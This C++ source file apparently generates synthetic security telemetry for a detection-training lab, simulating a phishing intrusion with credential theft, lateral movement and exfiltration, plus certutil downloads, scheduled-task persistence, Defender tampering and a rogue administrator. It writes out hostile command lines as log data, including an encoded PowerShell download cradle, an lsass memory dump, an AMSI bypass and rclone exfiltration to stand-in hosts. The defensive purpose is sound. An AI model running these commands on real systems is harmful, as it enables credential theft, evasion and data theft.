#include <fmt/format.h>

#include <utility>

#include "rooms/know/sample/attacks.h"
#include "rooms/know/sample/network_lines.h"
#include "rooms/know/sample/windows_lines.h"

namespace redoubt::rooms::sample {
namespace {

constexpr std::string_view intruder = "203.0.113.66";
constexpr std::string_view drop_host = "203.0.113.71";
constexpr std::string_view cmd = R"(C:\Windows\System32\cmd.exe)";
constexpr std::string_view pwsh = R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)";
constexpr std::string_view rundll = R"(C:\Windows\System32\rundll32.exe)";
constexpr std::string_view word = R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)";

// The document, the interpreter, and the first call home.
void add_foothold(Week& week, Time at) {
    add_file(week, "ws-017", at, R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)", R"(C:\Users\m.okafor\Downloads\Freight notice 8841.docm)");
    add_process(week, "ws-017", at + seconds(48),
                {.image = word,
                 .command_line = R"("WINWORD.EXE" /n "C:\Users\m.okafor\Downloads\Freight notice 8841.docm")",
                 .user = "m.okafor",
                 .parent = R"(C:\Windows\explorer.exe)"});
    add_process(week, "ws-017", at + seconds(71),
                {.image = pwsh,
                 .command_line = "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                 .user = "m.okafor",
                 .parent = word,
                 .original_name = "PowerShell.EXE"});
    add_script_block(week, "ws-017", at + seconds(72), "m.okafor", "IEX (New-Object Net.WebClient).DownloadString('http://stage.freight.example.test/s.txt')");
    add_proxy_request(week, at + seconds(73),
                      {.client = "10.20.3.57",
                       .user = "m.okafor",
                       .host = "stage.freight.example.test",
                       .path = "/s.txt",
                       .agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.22621.4391"});
    for (int i = 0; i < 6; ++i) {
        const Time call = at + minutes(2 + 5 * i);
        add_connection(week, "ws-017", call, rundll, "m.okafor", "10.20.3.57", intruder, 8443);
        Line line = zeek_line(week, call + seconds(1), "ssl", {.from = "10.20.3.57", .to = intruder, .to_port = 8443});
        line.text("version", "TLSv12").flag("established", true).text("validation_status", "self signed certificate");
        add_zeek(week, call + seconds(1), "ssl", std::move(line));
    }
}

void add_credential_theft(Week& week, Time at) {
    add_process(week, "ws-017", at,
                {.image = R"(C:\Windows\System32\nltest.exe)", .command_line = "nltest /domain_trusts /all_trusts", .user = "m.okafor", .parent = cmd});
    add_process(week, "ws-017", at + minutes(1),
                {.image = R"(C:\Windows\System32\net.exe)", .command_line = R"(net group "Domain Admins" /domain)", .user = "m.okafor", .parent = cmd});
    add_process(week, "ws-017", at + minutes(9),
                {.image = rundll,
                 .command_line = R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 684 C:\Windows\Temp\d.bin full)",
                 .user = "SYSTEM",
                 .parent = cmd});
    add_process_access(week, "ws-017", at + minutes(9), rundll, R"(C:\Windows\System32\lsass.exe)", "0x1fffff",
                       R"(C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\comsvcs.dll+29a1c|C:\Windows\System32\dbgcore.DLL+6fe2)");
}

// To the file server with what was found in memory.
void add_move_to_file_server(Week& week, Time at) {
    add_logon(week, "fs01", at, {.user = "adm.keller", .from_ip = "10.20.3.57", .from_host = "WS-017", .package = "NTLM"});
    add_share_access(week, "fs01", at + seconds(3), "adm.keller", "10.20.3.57", R"(\\*\ADMIN$)", R"(Temp\wsvc.exe)", "0x12019f");
    const Flow flow{.from = "10.20.3.57", .to = "10.20.2.30", .to_port = 445};
    Line copied = zeek_line(week, at + seconds(3), "smb_files", flow);
    copied.text("action", "SMB::FILE_WRITE").text("path", R"(\\fs01\ADMIN$)").text("name", R"(Temp\wsvc.exe)").number("size", 184'320);
    add_zeek(week, at + seconds(3), "smb_files", std::move(copied));
    Line call = zeek_line(week, at + seconds(5), "dce_rpc", flow);
    call.text("endpoint", "svcctl").text("operation", "CreateServiceW").text("named_pipe", R"(\pipe\svcctl)");
    add_zeek(week, at + seconds(5), "dce_rpc", std::move(call));
    add_service_installed(week, "fs01", at + seconds(5), "wsvc", R"(%SystemRoot%\Temp\wsvc.exe)");
    add_process(week, "fs01", at + seconds(9),
                {.image = cmd,
                 .command_line = R"(cmd.exe /Q /c dir D:\shares > \\127.0.0.1\ADMIN$\Temp\o.txt)",
                 .user = "SYSTEM",
                 .parent = R"(C:\Windows\System32\services.exe)"});
}

void add_exfiltration(Week& week, Time at) {
    add_file(week, "fs01", at, cmd, R"(C:\ProgramData\svcsync.exe)");
    add_process(week, "fs01", at + minutes(2),
                {.image = R"(C:\ProgramData\svcsync.exe)",
                 .command_line = R"(svcsync.exe copy D:\shares\finance store1:drop --transfers 12 --no-check-certificate)",
                 .user = "SYSTEM",
                 .parent = cmd,
                 .original_name = "rclone.exe"});
    for (int i = 0; i < 3; ++i) {
        const Time sent = at + minutes(3 + 11 * i);
        add_connection(week, "fs01", sent, R"(C:\ProgramData\svcsync.exe)", "SYSTEM", "10.20.2.30", drop_host, 443);
        add_zeek_conn(week, sent + seconds(1), {.from = "10.20.2.30", .to = drop_host, .to_port = 443}, "ssl", 1'900'000'000 + 1'000'000 * i, 812'345);
        add_firewall(week, sent, "allow", {.from = "10.20.2.30", .to = drop_host, .to_port = 443});
    }
}

}  // namespace

void add_phishing(Week& week, Time at) {
    add_foothold(week, at);
    add_credential_theft(week, at + minutes(34));
    add_move_to_file_server(week, at + minutes(58));
    add_exfiltration(week, at + minutes(95));
}

void add_program_by_certutil(Week& week, Time at) {
    add_process(week, "ws-023", at,
                {.image = R"(C:\Windows\System32\certutil.exe)",
                 .command_line = R"(certutil -urlcache -split -f http://203.0.113.40/u.dat C:\Users\Public\u.exe)",
                 .user = "x.contractor",
                 .parent = cmd,
                 .original_name = "CertUtil.exe"});
    const Flow flow{.from = "10.20.3.63", .to = "203.0.113.40", .to_port = 80};
    Line line = zeek_line(week, at + seconds(1), "http", flow);
    line.text("method", "GET").text("host", "203.0.113.40").text("uri", "/u.dat").number("status_code", 200).text("user_agent", "CertUtil URL Agent");
    line.texts("resp_mime_types", {"application/x-dosexec"});
    add_zeek(week, at + seconds(1), "http", std::move(line));
    add_connection(week, "ws-023", at + seconds(1), R"(C:\Windows\System32\certutil.exe)", "x.contractor", flow.from, flow.to, 80);
    add_file(week, "ws-023", at + seconds(2), R"(C:\Windows\System32\certutil.exe)", R"(C:\Users\Public\u.exe)");
    for (int i = 0; i < 8; ++i) add_connection(week, "ws-023", at + minutes(1 + 10 * i), R"(C:\Users\Public\u.exe)", "x.contractor", flow.from, flow.to, 4443);
}

void add_task_persistence(Week& week, Time at) {
    constexpr std::string_view dropped = R"(C:\Users\Public\dsync.exe)";
    add_file(week, "ws-009", at, R"(C:\Windows\explorer.exe)", dropped);
    add_process(week, "ws-009", at + seconds(40),
                {.image = R"(C:\Windows\System32\schtasks.exe)",
                 .command_line = R"(schtasks /create /sc minute /mo 30 /tn "Display Sync" /tr C:\Users\Public\dsync.exe)",
                 .user = "k.nakata",
                 .parent = cmd});
    WindowsEvent event = windows_event("ws-009", Channel::security, 4698, at + seconds(41));
    event.line.text("SubjectUserSid", sid_of("k.nakata"))
        .text("SubjectUserName", "k.nakata")
        .text("SubjectDomainName", domain)
        .text("TaskName", "\\Display Sync");
    event.line.text("TaskContent", fmt::format(R"(<Task version="1.2"><Actions><Exec><Command>{}</Command></Exec></Actions></Task>)", dropped));
    add(week, std::move(event));
    add_registry_value(week, "ws-009", at + minutes(3), R"(C:\Windows\System32\reg.exe)",
                       fmt::format(R"(HKU\{}\Software\Microsoft\Windows\CurrentVersion\Run\DisplaySync)", sid_of("k.nakata")), dropped);
    for (int i = 0; i < 5; ++i)
        add_process(week, "ws-009", at + minutes(30 * (i + 1)),
                    {.image = dropped, .command_line = dropped, .user = "k.nakata", .parent = R"(C:\Windows\System32\svchost.exe)"});
}

void add_defender_off(Week& week, Time at) {
    add_script_block(week, "ws-008", at, "d.marsh",
                     "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')");
    add_process(week, "ws-008", at + minutes(1),
                {.image = pwsh, .command_line = "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", .user = "d.marsh", .parent = cmd});
    add_process(week, "ws-008", at + minutes(2),
                {.image = pwsh, .command_line = R"(powershell.exe Add-MpPreference -ExclusionPath C:\ProgramData)", .user = "d.marsh", .parent = cmd});
    WindowsEvent off = windows_event("ws-008", Channel::defender, 5001, at + minutes(1) + seconds(2));
    off.line.text("ProductName", "Microsoft Defender Antivirus");
    add(week, std::move(off));
}

void add_new_local_administrator(Week& week, Time at) {
    add_process(week, "ws-022", at,
                {.image = R"(C:\Windows\System32\net.exe)", .command_line = "net user support2 ******** /add", .user = "n.baker", .parent = cmd});
    WindowsEvent created = windows_event("ws-022", Channel::security, 4720, at + seconds(1));
    created.line.text("TargetUserName", "support2").text("TargetDomainName", "WS-022").text("SubjectUserSid", sid_of("n.baker"));
    created.line.text("SubjectUserName", "n.baker").text("SubjectDomainName", domain);
    add(week, std::move(created));
    WindowsEvent raised = windows_event("ws-022", Channel::security, 4732, at + seconds(9));
    raised.line.text("TargetUserName", "Administrators").text("TargetDomainName", "Builtin").text("TargetSid", "S-1-5-32-544");
    raised.line.text("MemberSid", "S-1-5-21-300-200-100-1003").text("SubjectUserSid", sid_of("n.baker")).text("SubjectUserName", "n.baker");
    add(week, std::move(raised));
}

}  // namespace redoubt::rooms::sample
